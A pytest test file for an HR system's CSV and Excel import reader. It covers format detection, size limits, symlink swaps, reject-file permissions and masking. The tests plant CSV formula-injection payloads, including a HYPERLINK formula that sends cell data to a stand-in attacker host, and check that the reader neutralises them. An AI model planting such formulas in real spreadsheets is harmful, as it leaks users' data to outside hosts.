"""Reading import files: one open inode for every pass, formats and rough edges, limits, Excel
workbooks, reject files (full rows, 0600, neutralised formulas, masked messages) and the reader half
of append-aware imports. Stage-level tests run against the real PostgreSQL."""

from __future__ import annotations

import csv
import datetime as dt
import gzip
import hashlib
import io
import shutil
import stat
import tracemalloc
import zipfile
from decimal import Decimal
from pathlib import Path

import psycopg
import pytest
import xlsxwriter

from hrms_pipelines import settings
from hrms_pipelines.imports import schemas, summaries
from hrms_pipelines.imports.files import limits
from hrms_pipelines.imports.reader import (
    ImportFileError, LimitExceeded, RejectReport, check_columns, inspect_file, load_file, neutralise,
)
from hrms_pipelines.resources import IMPORTER

from .import_helpers import BASE, checksums, run_all, run_stage, scalar, write, write_base

SEEDS = settings.PROJECT_ROOT / "seeds" / "xlsx"
USERS_HEADER = BASE["users.csv"][0]
USER_ROW = ["new.person@nhia.gov.gh", "New", "Person", "active", "", "MOBILE", "", "", "ENG", "1"]


def csv_bytes(rows, newline="\n") -> bytes:
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator=newline).writerows(rows)
    return buffer.getvalue().encode()


def put(folder: Path, name: str, data: bytes) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / name).write_bytes(data)
    return folder / name


def refused(path: Path, *expected: str, error=ImportFileError, **kwargs) -> str:
    with pytest.raises(error) as info:
        inspect_file(path, **kwargs)
    message = str(info.value)
    for text in expected:
        assert text in message, f"{text!r} not in:\n{message}"
    return message


def spreadsheet_evaluates(cell: str) -> bool:
    """Would Excel/LibreOffice/Sheets take this cell of a CSV file as a formula?"""
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def base(hrms_db, tmp_path):
    directory = write_base(tmp_path / "in")
    run_all(hrms_db, directory, ("ladders", "org", "users"))
    return directory


# ---------------------------------------------------------------------------------------------
# one open inode


def test_every_pass_reads_the_inode_that_was_opened(hrms_db, tmp_path):
    folder = tmp_path / "in"
    original = csv_bytes([USERS_HEADER, USER_ROW])
    path = put(folder, "users.csv", original)
    secret = put(tmp_path / "outside", "secret.csv", csv_bytes([USERS_HEADER, ["secret@elsewhere.example", "S", "S"] + [""] * 7]))
    info = inspect_file(path)
    assert info.sha256 == hashlib.sha256(original).hexdigest() and info.size == len(original)
    path.unlink()
    path.symlink_to(secret)                      # swapped for a symlink between the passes
    with hrms_db.transaction(IMPORTER) as conn:
        rows = load_file(conn, info, "stg_users", schemas.UsersFile, RejectReport(None))
        staged = conn.execute("SELECT row_number, email FROM stg_users").fetchall()
    assert rows == 1 and staged == [(1, "new.person@nhia.gov.gh")]
    with pytest.raises(ImportFileError, match="is a symbolic link"):
        inspect_file(path)                       # opened anew, the symlink is refused


def test_a_header_error_shows_only_a_short_escaped_excerpt(tmp_path):
    line = "top-secret-" + "x" * 500 + "\x1b[31m"
    info = inspect_file(put(tmp_path, "users.csv", (line + "\nrow\n").encode()))
    with pytest.raises(ImportFileError) as error:
        check_columns(info, ("email",), ("email", "first_name"), lambda _: None)
    message = str(error.value)
    assert "Expected columns: email, first_name" in message
    assert "x" * 100 not in message and "\x1b" not in message and "\\x1b" not in message


# ---------------------------------------------------------------------------------------------
# rough edges


def test_trailing_blank_lines_are_accepted(tmp_path):
    for tail in (b"\n", b"\r\n", b"\n\n\n", b",,,,,,,,,\n", b",,,,,,,,,\r\n\r\n"):
        newline = "\r\n" if tail.startswith(b"\r") or tail.endswith(b"\r\n") else "\n"
        info = inspect_file(put(tmp_path, "users.csv", csv_bytes([USERS_HEADER, USER_ROW], newline) + tail))
        assert info.rows == 1
        assert [row for row, _ in info.numbered_rows()] == [1, 2]


def test_blank_rows_inside_a_file_are_refused_naming_them(tmp_path):
    data = csv_bytes([USERS_HEADER, USER_ROW]) + b"\n" + csv_bytes([USER_ROW]) + b",,,,,,,,,\n" + csv_bytes([USER_ROW]) + b"\n"
    refused(put(tmp_path, "users.csv", data), "users.csv: the CSV structure is broken",
            "blank row(s) inside the file: row(s) 3, 5. Delete them")


@pytest.mark.parametrize("name, data, what", [
    ("gzip", gzip.compress(csv_bytes([USERS_HEADER, USER_ROW]), mtime=0), "a gzip-compressed file"),
    ("pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n", "a PDF document"),
    ("utf16 bom", "email,first_name\nx@y.z,A\n".encode("utf-16"), "UTF-16 (little-endian) text (byte order mark at byte 0)"),
    ("utf16-le", "email,first_name\nx@y.z,A\n".encode("utf-16-le"), "UTF-16 (little-endian) text without a byte order mark"),
    ("utf16-be", "email,first_name\nx@y.z,A\n".encode("utf-16-be"), "UTF-16 (big-endian) text without a byte order mark"),
    ("utf32 bom", "email,first_name\nx@y.z,A\n".encode("utf-32"), "UTF-32 (little-endian) text (byte order mark at byte 0)"),
    ("utf32-le", "email,first_name\nx@y.z,A\n".encode("utf-32-le"), "UTF-32 (little-endian) text without a byte order mark"),
    ("utf32-be", "email,first_name\nx@y.z,A\n".encode("utf-32-be"), "UTF-32 (big-endian) text without a byte order mark"),
])
def test_a_file_that_is_not_csv_text_says_what_it_is(tmp_path, name, data, what):
    refused(put(tmp_path, "users.csv", data), f"users.csv: this file is {what}, not CSV text in UTF-8")


def test_an_xlsx_or_zip_named_csv(tmp_path):
    shutil.copy(SEEDS / "users.xlsx", tmp_path / "users.csv")
    refused(tmp_path / "users.csv", "this file is an Excel workbook (.xlsx), not CSV text in UTF-8",
            "give it the .xlsx extension (for example users.xlsx)")
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("users.csv", "email\n")
    refused(put(tmp_path, "users.csv", buffer.getvalue()), "this file is a zip archive", "Extract the CSV file")


def test_nul_bytes_are_reported_at_their_row_and_column(tmp_path):
    data = csv_bytes([USERS_HEADER]) + b"a@b.c,Ama,Men\x00sah,,,,,,,\n"
    message = refused(put(tmp_path, "users.csv", data), "1 NUL byte(s)", "row 2, column last_name (C)")
    assert "\x00" not in message


@pytest.mark.parametrize("line, expected", [
    (b"a@b.c,Ama,Mensah\n", "row 2 has 3 cells, the header has 10: too few cells"),
    (b"a@b.c,Ama,Mensah,,,,,,,,EXTRA,MORE\n", "row 2 has 12 cells, the header has 10: too many cells"),
    (b'a@b.c,"Ama,Mensah,,,,,,,\nk@b.c,Kofi,Owusu,,,,,,,\n', "row 2, column first_name (B): an unclosed quote"),
    (b'a@b.c,O"Brien,Mensah,,,,,,,\n', "a double quote inside a cell that is not quoted as a whole"),
    (b"a@b.c,Ama,Mensah,,,,,,,\r\nk@b.c,Kofi,Owusu,,,,,,,\n", "mixed line ends"),
])
def test_the_structure_hint_names_the_real_cause(tmp_path, line, expected):
    refused(put(tmp_path, "users.csv", csv_bytes([USERS_HEADER]) + line), "users.csv: the CSV structure is broken", expected)


def test_structure_problems_fail_the_stage_and_write_nothing(hrms_db, database_url, base):
    (base / "users.csv").write_bytes(csv_bytes([USERS_HEADER]) + b"a@b.c,Ama,Mensah\n")
    before = checksums(database_url)
    with pytest.raises(ImportFileError, match="too few cells"):
        run_stage(hrms_db, "users", base)
    assert checksums(database_url) == before


# ---------------------------------------------------------------------------------------------
# limits


def test_a_huge_cell_is_refused_while_streaming(tmp_path, monkeypatch):
    path = put(tmp_path, "users.csv", csv_bytes([USERS_HEADER]) + b"a@b.c,Ama," + b"y" * (20 << 20) + b",,,,,,,\n")
    tracemalloc.start()
    try:
        message = refused(path, "users.csv row 2, column last_name (C): the cell holds at least",
                          "over the limit of 65,536 bytes per cell (HRMS_IMPORT_MAX_CELL_BYTES)",
                          "raise HRMS_IMPORT_MAX_CELL_BYTES", "Nothing was written", error=LimitExceeded)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 8 << 20, f"{peak:,} bytes held while refusing a 20 MiB cell"
    assert "yyyy" not in message
    monkeypatch.setenv(limits.MAX_CELL_BYTES_ENV, "20")          # header cells count too: manager_email is 13
    refused(put(tmp_path, "users.csv", csv_bytes([USERS_HEADER, USER_ROW])), "row 2, column email (A)",
            "over the limit of 20 bytes per cell", error=LimitExceeded)


def test_file_and_row_limits(tmp_path, monkeypatch):
    path = put(tmp_path, "users.csv", csv_bytes([USERS_HEADER] + [USER_ROW] * 3))
    monkeypatch.setenv(limits.MAX_FILE_BYTES_ENV, "100")
    refused(path, f"users.csv: the file is {path.stat().st_size:,} bytes, over the limit of 100 bytes per import file "
                  "(HRMS_IMPORT_MAX_FILE_BYTES)", "raise HRMS_IMPORT_MAX_FILE_BYTES", error=LimitExceeded)
    monkeypatch.delenv(limits.MAX_FILE_BYTES_ENV)
    monkeypatch.setenv(limits.MAX_ROWS_ENV, "2")
    refused(path, "users.csv: more than 2 data rows (row 4 is one too many)", "(HRMS_IMPORT_MAX_ROWS)", error=LimitExceeded)
    monkeypatch.setenv(limits.MAX_ROWS_ENV, "3")
    assert inspect_file(path).rows == 3
    monkeypatch.setenv(limits.MAX_ROWS_ENV, "three")
    with pytest.raises(ValueError, match="HRMS_IMPORT_MAX_ROWS"):
        inspect_file(path)


def test_a_limit_fails_the_stage_and_writes_nothing(hrms_db, database_url, base, monkeypatch):
    write(base, "users.csv", BASE["users.csv"] + [USER_ROW])
    monkeypatch.setenv(limits.MAX_ROWS_ENV, "3")
    before = checksums(database_url)
    with pytest.raises(LimitExceeded, match="more than 3 data rows"):
        run_stage(hrms_db, "users", base)
    assert checksums(database_url) == before


# ---------------------------------------------------------------------------------------------
# reject files


def test_reject_file_holds_full_rows_private_and_neutralised(hrms_db, database_url, base):
    header = BASE["history.csv"][0] + ["notes"]
    planted_salary = '=HYPERLINK("http://evil.example/?x="&A1,"9999.99")'
    rows = [header,
            ["kofi.owusu@nhia.gov.gh", "hire", "2019-06-10", "ENG", "1", "", "P1", planted_salary, "", "+233 24 000"],
            ["yaa.asante@nhia.gov.gh", "hire", "2021-09-01", "ENG", "1", "", "P1", "3200.00", "", "fine"],
            ["planted.person@nhia.gov.gh", "hire", "2021-13-01", "ENG", "1", "", "P1", "7,777.77", "", "-1 @home\tx"]]
    write(base, "history.csv", rows)
    before = checksums(database_url)
    with pytest.raises(ImportFileError) as error:
        run_stage(hrms_db, "history", base, run_id="run-rejects")
    assert checksums(database_url) == before
    report = error.value.rejects
    path = settings.rejects_dir() / "run-rejects" / "history.csv"
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(path.parent.stat().st_mode) == 0o700
    assert stat.S_IMODE(settings.rejects_dir().stat().st_mode) == 0o700
    with path.open(newline="", encoding="utf-8") as handle:
        read_back = list(csv.reader(handle))
    assert read_back[0] == ["file", "row", "problem_columns", "rules"] + header
    by_row = {r[1]: r for r in read_back[1:]}
    assert set(by_row) == {"2", "4"}                      # row 3 is fine; row 4 has two problems on one line
    assert by_row["2"][2] == "salary" and "salary: an amount like 8500.00" in by_row["2"][3]
    assert by_row["4"][2] == "email, event_date, salary" or set(by_row["4"][2].split(", ")) >= {"event_date", "salary"}
    cells = by_row["2"][4:]
    assert cells[header.index("salary")] == "'" + planted_salary       # shown as text, not evaluated
    assert cells[header.index("notes")] == "'+233 24 000"
    assert by_row["4"][4:][header.index("notes")] == "'-1 @home\tx"
    assert [c.removeprefix("'") for c in cells] == rows[1]             # every cell of the row, verbatim otherwise
    assert not any(spreadsheet_evaluates(c) for line in read_back for c in line)
    raw = path.read_text(encoding="utf-8")
    assert raw.startswith('"file","row"')                             # every cell quoted (OWASP)
    # what leaves for logs and metadata: masked
    shown = str(error.value) + repr(summaries.rejects_metadata(report))
    for planted in ("9999.99", "7,777.77", "planted.person", "evil.example"):
        assert planted not in shown, planted
    assert "'#,###.##'" in shown and "p***@nhia.gov.gh" in shown or "#,###.##" in shown
    stored = scalar(database_url, "SELECT message FROM hrms.imports_importrecord WHERE run_id = 'run-rejects'")
    assert "7,777.77" not in stored and "9999.99" not in stored


def test_reject_file_header_cells_are_neutralised_like_data_cells(hrms_db, base):
    """A source column named like a formula is not a live formula in the reject file's header row."""
    header = BASE["history.csv"][0] + ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+cmd", "@sum(a1)"]
    write(base, "history.csv", [header, ["kofi.owusu@nhia.gov.gh", "hire", "2019-13-10", "ENG", "1", "", "P1", "3500.00",
                                         "", "a", "b", "c"]])
    with pytest.raises(ImportFileError):
        run_stage(hrms_db, "history", base, run_id="run-reject-header")
    with (settings.rejects_dir() / "run-reject-header" / "history.csv").open(newline="", encoding="utf-8") as handle:
        read_back = list(csv.reader(handle))
    assert read_back[0][-3:] == ['\'=hyperlink("http://evil.example/?x="&a1,"open")', "'+cmd", "'@sum(a1)"]
    assert not any(spreadsheet_evaluates(c) for line in read_back for c in line)


def test_neutralise_follows_owasp():
    for cell in ("=1+2", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
        assert neutralise(cell) == "'" + cell and not spreadsheet_evaluates(neutralise(cell))
    for cell in ("", "Ama", "'quoted", " =x", "1-2"):
        assert neutralise(cell) == cell


# ---------------------------------------------------------------------------------------------
# Excel workbooks


def test_xlsx_sheets_values_and_row_numbers(tmp_path):
    staff = inspect_file(SEEDS / "users.xlsx")
    assert staff.format == "xlsx" and staff.sheet == "Staff"           # the first VISIBLE sheet
    assert staff.sha256 == staff.file_sha256 == hashlib.sha256((SEEDS / "users.xlsx").read_bytes()).hexdigest()
    rows = dict(staff.numbered_rows())
    assert rows[2][:6] == ["kwame.boateng@nhia.gov.gh", "00123", "Kwame", "Boateng", "active", "2024-03-31"]
    assert rows[2][8] == "1"
    contractors = inspect_file(SEEDS / "users.xlsx#Contractors")
    assert contractors.sheet == "Contractors" and contractors.rows == 1
    assert contractors.file_sha256 == staff.file_sha256 and contractors.sha256 != staff.sha256
    history = dict(inspect_file(SEEDS / "history.xlsx").numbered_rows())
    assert history[2][2] == "2023-01-01" and history[2][7] == "8500.1" and history[2][8] == "4800"
    assert history[3][7] == "10200.12" and history[3][8] == "8500.1"   # formulas: their cached values


def test_xlsx_numbers_as_excel_shows_them(tmp_path):
    path = tmp_path / "history.xlsx"
    book = xlsxwriter.Workbook(path)
    sheet = book.add_worksheet()
    sheet.write_row(0, 0, ["a", "b", "c", "d", "e", "f"])
    sheet.write_number(1, 0, 0.1 + 0.2)
    sheet.write_formula(1, 1, "=A2*3", None, 9350.110000000001)
    sheet.write_number(1, 2, 1e20)
    sheet.write_boolean(1, 3, True)
    sheet.write_datetime(1, 4, dt.datetime(2024, 3, 31, 13, 5), book.add_format({"num_format": "yyyy-mm-dd hh:mm"}))
    sheet.write_string(1, 5, "=not a formula")
    book.close()
    assert dict(inspect_file(path).numbered_rows())[2] == ["0.3", "9350.11", "100000000000000000000", "TRUE",
                                                           "2024-03-31 13:05:00", "=not a formula"]


@pytest.mark.parametrize("name, expected", [
    ("bad_merged_header.xlsx", "merged cells are not supported (A1:D1). Merged header cells usually mean several header rows"),
    ("bad_error_cell.xlsx", "row 2, column salary (H2) holds the Excel error '#DIV/0!'"),
    ("users.xlsx#Nope", "the workbook has no sheet 'Nope'; its sheets are 'Readme', 'Staff', 'Contractors'"),
])
def test_xlsx_refusals(name, expected):
    refused(SEEDS / name, expected)


def test_xlsx_several_header_rows_and_uncalculated_formulas(tmp_path):
    info = inspect_file(SEEDS / "bad_two_header_rows.xlsx")
    with pytest.raises(ImportFileError, match="Row 2 holds the column names: several header rows"):
        check_columns(info, ("email", "first_name", "last_name"), USERS_HEADER, lambda _: None)
    path = tmp_path / "users.xlsx"
    book = xlsxwriter.Workbook(path)
    sheet = book.add_worksheet()
    sheet.write_row(0, 0, ["email", "first_name"])
    sheet.write_row(1, 0, ["a@b.c"])
    sheet.write_formula(1, 1, '=UPPER("ama")')        # no cached value: written by a program that does not calculate
    book.close()
    # XlsxWriter writes 0 as the default cached value; strip it to get a formula without a value
    with zipfile.ZipFile(path) as archive:
        parts = {n: archive.read(n) for n in archive.namelist()}
    parts["xl/worksheets/sheet1.xml"] = parts["xl/worksheets/sheet1.xml"].replace(b"<v>0</v>", b"")
    with zipfile.ZipFile(path, "w") as archive:
        for n, data in parts.items():
            archive.writestr(n, data)
    refused(path, "row 2, column first_name (B2) holds a formula with no calculated value")
    put(tmp_path, "text.xlsx", b"email\nx@y.z\n")
    refused(tmp_path / "text.xlsx", "not an Excel workbook (.xlsx)")


def test_xlsx_cell_limit(tmp_path, monkeypatch):
    monkeypatch.setenv(limits.MAX_CELL_BYTES_ENV, "20")
    message = refused(SEEDS / "users.xlsx", "users.xlsx (sheet 'Staff') row 2, column email (A2): the cell holds 25 bytes",
                      "HRMS_IMPORT_MAX_CELL_BYTES", error=ImportFileError)
    assert "kwame" not in message


def test_xlsx_imports_like_csv(hrms_db, database_url, base):
    for name in ("users.xlsx", "history.xlsx"):
        shutil.copy(SEEDS / name, base / name)
    result = run_stage(hrms_db, "users", base, users_file="users.xlsx#Staff")
    assert result.counts["inserted"] == 2
    assert scalar(database_url, "SELECT employee_number || ' ' || hire_date FROM hrms.employees_employee "
                                "WHERE email = 'kwame.boateng@nhia.gov.gh'") == "00123 2024-03-31"
    result = run_stage(hrms_db, "history", base, history_file="history.xlsx")
    assert result.counts["rows_read"] == 2
    with psycopg.connect(database_url) as conn:
        salaries = conn.execute("SELECT c.salary FROM hrms.history_compensationsnapshot c "
                                "JOIN hrms.history_timelineevent e ON e.id = c.event_id "
                                "WHERE e.event_date >= '2023-01-01' ORDER BY e.event_date").fetchall()
    assert [s for (s,) in salaries] == [Decimal("8500.10"), Decimal("10200.12")]
    again = run_stage(hrms_db, "history", base, history_file="history.xlsx")
    assert again.unchanged                                              # the same sha256: nothing to do
    other_sheet = run_stage(hrms_db, "users", base, users_file="users.xlsx#Contractors")
    assert other_sheet.counts["inserted"] == 1                         # another sheet is another import


def test_xlsx_rejects_carry_excel_row_numbers(hrms_db, database_url, base):
    path = base / "users.xlsx"
    book = xlsxwriter.Workbook(path)
    sheet = book.add_worksheet("Staff")
    sheet.write_row(0, 0, USERS_HEADER)
    sheet.write_row(1, 0, USER_ROW)
    sheet.write_row(2, 0, ["bad.date@nhia.gov.gh", "Bad", "Date", "active", "2024-02-30"])
    book.close()
    before = checksums(database_url)
    with pytest.raises(ImportFileError, match=r"users.xlsx row 3, column hire_date, value '2024-02-30'"):
        run_stage(hrms_db, "users", base, users_file="users.xlsx")
    assert checksums(database_url) == before


# ---------------------------------------------------------------------------------------------
# append-aware reading (the reader half)


def _history_rows(count: int, start: int = 0) -> list[list[str]]:
    return [["kofi.owusu@nhia.gov.gh", "note", f"2020-01-{1 + (i % 28):02d}", "", "", "", "", "", ""]
            for i in range(start, start + count)]


def test_append_prefix_is_recognised_only_for_a_true_append(tmp_path):
    previous = csv_bytes([BASE["history.csv"][0]] + _history_rows(5))
    size, sha = len(previous), hashlib.sha256(previous).hexdigest()
    appended = previous + csv_bytes(_history_rows(3, 5))
    info = inspect_file(put(tmp_path, "history.csv", appended), prefix_size=size)
    assert info.prefix_sha256 == sha and info.prefix_rows == 5 and info.appends_to(size, sha)
    assert info.appended_rows == 3 and info.sha256 == hashlib.sha256(appended).hexdigest()
    changed_middle = previous.replace(b"2020-01-03", b"2020-02-03") + csv_bytes(_history_rows(3, 5))
    assert not inspect_file(put(tmp_path, "history.csv", changed_middle), prefix_size=size).appends_to(size, sha)
    truncated = previous[: previous.rstrip(b"\n").rindex(b"\n") + 1]     # the last row gone
    info = inspect_file(put(tmp_path, "history.csv", truncated), prefix_size=size)
    assert info.prefix_sha256 is None and not info.appends_to(size, sha)
    same_size = previous.replace(b"2020-01-02", b"2020-01-09")
    assert len(same_size) == size
    assert not inspect_file(put(tmp_path, "history.csv", same_size), prefix_size=size).appends_to(size, sha)
    no_line_end = previous.rstrip(b"\n")         # the previous file ended inside its last row
    info = inspect_file(put(tmp_path, "history.csv", no_line_end + b"9\n"), prefix_size=len(no_line_end))
    assert info.prefix_sha256 == hashlib.sha256(no_line_end).hexdigest() and info.prefix_rows is None
    assert not info.appends_to(len(no_line_end), hashlib.sha256(no_line_end).hexdigest())


def test_load_from_an_offset_stages_only_the_new_rows_with_their_row_numbers(hrms_db, tmp_path):
    previous = csv_bytes([BASE["history.csv"][0]] + _history_rows(4))
    appended = previous + csv_bytes(_history_rows(2, 4)[:1] + [["kofi.owusu@nhia.gov.gh", "note", "2020-13-01"] + [""] * 6])
    info = inspect_file(put(tmp_path, "history.csv", appended), prefix_size=len(previous))
    report = RejectReport(tmp_path / "rejects" / "history.csv")
    with hrms_db.transaction(IMPORTER) as conn:
        rows = load_file(conn, info, "stg_history", schemas.HistoryFile, report, start_offset=len(previous))
        staged = conn.execute("SELECT row_number, event_date FROM stg_history ORDER BY row_number").fetchall()
    assert rows == 2 and staged == [(5, "2020-01-05"), (6, "2020-13-01")]   # spreadsheet rows 6 and 7
    assert [(r.row, r.column) for r in report.first] == [(7, "event_date")]
    report.close()
    with report.path.open(newline="") as handle:
        lines = list(csv.reader(handle))
    assert lines[1][1] == "7" and lines[1][4:7] == ["kofi.owusu@nhia.gov.gh", "note", "2020-13-01"]
    with pytest.raises(ImportFileError, match="needs first_row_number"):
        with hrms_db.transaction(IMPORTER) as conn:
            load_file(conn, info, "stg_x", schemas.HistoryFile, RejectReport(None), start_offset=len(previous) - 1)
